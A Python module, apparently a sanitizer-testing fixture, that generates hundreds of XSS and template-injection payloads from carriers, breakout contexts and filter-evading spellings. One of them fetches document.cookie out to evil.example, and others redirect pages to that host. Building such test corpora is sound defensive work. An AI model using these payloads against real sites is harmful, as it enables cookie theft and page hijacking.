"""Injection payloads by rule: what may carry script, times how it may be written.

A list of famous strings is a list of examples. Here every carrier (an element or attribute that
runs or fetches something) stands in every context it could break out of (text, attribute,
script, comment, address), in spellings that filters forget.
"""

from __future__ import annotations

import json
from itertools import product
from pathlib import Path

FAMOUS: list[str] = json.loads((Path(__file__).parent / "data" / "injections.json").read_text())
_ACTS = ("pwned=1", "window['pwned']=1", "fetch('//evil.example/'+document.cookie)")
_CARRIERS = (
    "<script>{act}</script>",
    "<img src=x onerror={act}>",
    "<svg onload={act}>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<details open ontoggle={act}>",
    "<video><source onerror={act}></video>",
    "<input autofocus onfocus={act}>",
    "<a href='javascript:{act}'>点</a>",
    "<form action=javascript:{act}><button autofocus>点</button></form>",
    "<style>*{{background:url(//evil.example/x)}}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<object data='javascript:{act}'></object>",
)
_CONTEXTS = (
    "{0}", '">{0}', "'>{0}", "</title>{0}", "</textarea>{0}", "-->{0}<!--", "]]>{0}",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ {0} }}}}", "{{% {0} %}}", "${{{0}}}", "#{{{0}}}", "<%= {0} %>", "[[{0}]]",
    "{{{{constructor.constructor('{0}')()}}}}", "';{0};//", '";{0};//', "`${{{0}}}`",
    "\\u003cscript\\u003e{0}",
    "%3Cscript%3E{0}%3C/script%3E", "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}",
    "＜script＞{0}＜/script＞", "<scr\u0000ipt>{0}</scr\u0000ipt>", "<scr\u200bipt>{0}</script>",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
)  # fmt: skip


def payloads() -> list[str]:
    """More than three hundred, each once, in the same order every time."""
    found = list(FAMOUS)
    carried = [carrier.format(act=act) for carrier, act in product(_CARRIERS, _ACTS)]
    found += [context.format(each) for each, context in product(carried, _CONTEXTS)]
    found += [template.format(act) for template, act in product(_TEMPLATES, _ACTS)]
    found += [_spelled(each) for each in carried]
    return list(dict.fromkeys(found))


def _spelled(markup: str) -> str:
    """Mixed case, a slash and a tab for the blank: what a list of bad words lets through."""
    mixed = "".join(c.upper() if n % 2 else c for n, c in enumerate(markup[:8])) + markup[8:]
    return mixed.replace(" ", "\t/", 1)
